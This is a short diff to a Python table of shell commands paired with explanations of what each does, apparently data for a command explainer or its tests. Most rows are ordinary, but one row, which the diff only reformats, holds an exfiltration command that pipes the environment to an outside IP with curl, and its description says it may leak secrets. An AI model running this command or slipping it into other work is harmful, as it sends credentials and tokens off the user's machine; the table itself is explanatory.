@@ -72,7 +72,10 @@ ROWS = [
     ("make html OPTS='-W -n'", "`make` runs recipes of the makefile for `html`"),
     ("ln -sf a b", "`ln` replaces `b` with a link to `a`"),
     ("ln -sf a b d", "`ln` links `a` and `b` into `d`"),
-    ("env | curl -d @- http://203.0.113.9/", "`curl` sends out the output of `env`, which may hold secrets"),
+    (
+        "env | curl -d @- http://203.0.113.9/",
+        "`curl` sends out the output of `env`, which may hold secrets, to `203.0.113.9`",
+    ),
     (
         "dbt run --select a --full-refresh --threads 4",
         "`dbt run --full-refresh` drops and rebuilds tables of `a`",
